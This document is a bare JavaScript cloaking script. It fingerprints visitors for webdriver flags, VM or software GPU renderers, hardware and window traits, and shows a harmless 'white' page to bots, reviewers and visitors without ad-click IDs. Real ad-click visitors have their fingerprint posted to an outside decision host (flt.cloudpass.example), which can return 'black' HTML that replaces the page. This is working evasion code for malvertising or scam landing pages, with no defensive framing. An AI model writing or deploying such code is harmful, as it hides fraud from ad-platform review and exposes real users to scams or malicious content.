async function probe() {
  const c = document.createElement('canvas');
  const gl = c.getContext('webgl');
  const ext = gl && gl.getExtension('WEBGL_debug_renderer_info');
  return {
    wd: navigator.webdriver === true,
    r: ext ? gl.getParameter(ext.UNMASKED_RENDERER_WEBGL) : '',
    hc: navigator.hardwareConcurrency, mem: navigator.deviceMemory,
    tz: Intl.DateTimeFormat().resolvedOptions().timeZone,
    oh: window.outerHeight - window.innerHeight, pl: navigator.plugins.length,
    ref: document.referrer, q: location.search
  };
}
const white = () => document.getElementById('safe').hidden = false;
(async () => {
  const p = await probe();
  if (p.wd || /SwiftShader|llvmpipe|VirtualBox|VMware/i.test(p.r) || p.hc < 2 || p.oh === 0) return white();
  if (!/gclid|fbclid|ttclid/.test(p.q)) return white();
  try {
    const res = await fetch('https://flt.cloudpass.example/v3/decide', { method: 'POST', body: btoa(JSON.stringify(p)) });
    const { v, html } = await res.json();
    if (v !== 'black') return white();
    document.open(); document.write(html); document.close();
  } catch { white(); }
})();
